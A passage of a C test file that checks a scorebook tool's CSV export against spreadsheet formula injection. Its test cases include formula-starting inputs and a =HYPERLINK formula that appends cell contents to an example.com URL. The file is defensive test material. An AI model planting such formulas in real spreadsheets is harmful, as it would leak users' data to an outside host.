  { "at", "@SUM(A1:A2)", "'@SUM(A1:A2)", "\"'@SUM(A1:A2)\"" },
  { "tab", "\t=1+1", "'\t=1+1", "\"'\t=1+1\"" },
  { "carriage-return", "\r=1+1", "'\r=1+1", "\"'\r=1+1\"" },
  { "hyperlink", "=HYPERLINK(\"http://example.com/?\"&A1,\"Details\")",
    "'=HYPERLINK(\"http://example.com/?\"&A1,\"Details\")",
    "\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Details\"\")\"" },
  { "chinese", "=1+1 见附件", "'=1+1 见附件", "\"'=1+1 见附件\"" },
  /* A semicolon is the separator where the decimal point is a comma: a
   * cell must not start inside the note there either. */
  { "semicolon", "Fine; =1+1", "Fine; =1+1", "\"Fine; =1+1\"" },
  /* Only a cell's first character makes a formula. */
  { "inside", "1-2 meetings", "1-2 meetings", "1-2 meetings" },
  { "second-line", "Fine\n=1+1", "Fine\n=1+1", "\"Fine\n=1+1\"" },
};

/* A note from a shared assessment never becomes a live formula in the
 * committee's spreadsheet, and the numbers beside it stay numbers. */
static void
test_csv_formulas (gconstpointer data)
{
  const FormulaCase *c = data;
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-empty.scorebook");
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *field = g_strconcat (",", c->field, ",\r\n", NULL);
  const char *line;
  char **row = NULL;

  g_assert_true (sb_assessment_set_rating (assessment, "1.1.1", "process-4", 70, &error));
  g_assert_no_error (error);
  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_STRENGTH, 0, c->note);
  csv = sb_csv_for_assessment (assessment, SB_LANG_EN);
  check_csv_against (assessment, SB_LANG_EN);

  rows = parse_csv (csv + 3);
  for (guint i = 0; i < rows->len; i++)
    if (g_str_equal (((char **) rows->pdata[i])[0], "1.1.1"))
      row = rows->pdata[i];
  g_assert_nonnull (row);
  g_assert_cmpstr (row[9], ==, c->cell);
  line = strstr (csv, "\r\n1.1.1,");
  g_assert_nonnull (line);
  g_assert_nonnull (strstr (line, field));
  /* 30 points, 70 % of them: bare numbers a spreadsheet adds up. */
  g_assert_cmpstr (row[4], ==, "30");
  g_assert_cmpstr (row[7], ==, "70");
  g_assert_cmpstr (row[8], ==, "21");
  g_assert_nonnull (g_strstr_len (line, strstr (line, field) - line, ",70,21"));
}

/* Every word of the summary's own is in the table in both languages:
 * Chinese with Han characters in it, English in plain ASCII, and both
 * languages show the pair, Chinese first. */
static void
test_labels (void)
{
  for (SbReportLabel label = 0; label < SB_REPORT_N_LABELS; label++)
    {
      const char *zh = sb_report_label_get (label, SB_LANG_ZH);
      const char *en = sb_report_label_get (label, SB_LANG_EN);
      g_autofree char *both = sb_report_label_format (label, SB_DISPLAY_LANGUAGE_BOTH);
      g_autofree char *only_en = sb_report_label_format (label, SB_DISPLAY_LANGUAGE_EN);
      gboolean han = FALSE;

      g_assert_nonnull (zh);
      g_assert_nonnull (en);
      g_assert_cmpstr (en, !=, "");
      for (const char *p = zh; *p != '\0'; p = g_utf8_next_char (p))
        han |= g_unichar_get_script (g_utf8_get_char (p)) == G_UNICODE_SCRIPT_HAN;
      g_assert_true (han);
      for (const char *p = en; *p != '\0'; p++)
        g_assert_true (g_ascii_isprint (*p));
      g_assert_cmpstr (only_en, ==, en);
      g_assert_true (g_str_has_prefix (both, zh));
      g_assert_true (g_str_has_suffix (both, en));
    }
  g_assert_cmpint (sb_report_label_for_kind (SB_ASSESSMENT_KIND_SITE_VISIT), ==, SB_REPORT_LABEL_KIND_SITE_VISIT);
  g_assert_cmpint (sb_report_label_for_evidence (SB_EVIDENCE_OBSERVATION), ==, SB_REPORT_LABEL_OBSERVATION);
}

int
main (int   argc,
      char *argv[])
{
  int status;

  g_test_init (&argc, &argv, NULL);
  standard = sb_test_bundled_standard ();

  for (guint i = 0; i < G_N_ELEMENTS (layout_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/report/layout/%s", layout_cases[i].name);

      g_test_add_data_func (path, &layout_cases[i], test_layout);
    }
  g_test_add_func ("/report/languages", test_languages);
  g_test_add_func ("/report/labels", test_labels);
  g_test_add_func ("/report/long-comments", test_long_comments);
  g_test_add_func ("/report/rows-keep-with-comments", test_rows_keep_with_comments);
  g_test_add_func ("/report/unrated", test_unrated);
  g_test_add_func ("/report/blank-notes", test_blank_notes);
  g_test_add_func ("/report/bounded", test_bounded);
  g_test_add_func ("/report/other-standard", test_other_standard);
  g_test_add_func ("/report/pdf", test_write_pdf);
  g_test_add_func ("/report/no-applicant", test_no_applicant);
  g_test_add_func ("/report/csv/model", test_csv);
  g_test_add_func ("/report/csv/quoting", test_csv_quoting);
  for (guint i = 0; i < G_N_ELEMENTS (formula_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/report/csv/formula/%s", formula_cases[i].name);

      g_test_add_data_func (path, &formula_cases[i], test_csv_formulas);
    }

  status = g_test_run ();
  g_clear_object (&standard);
  return status;
}
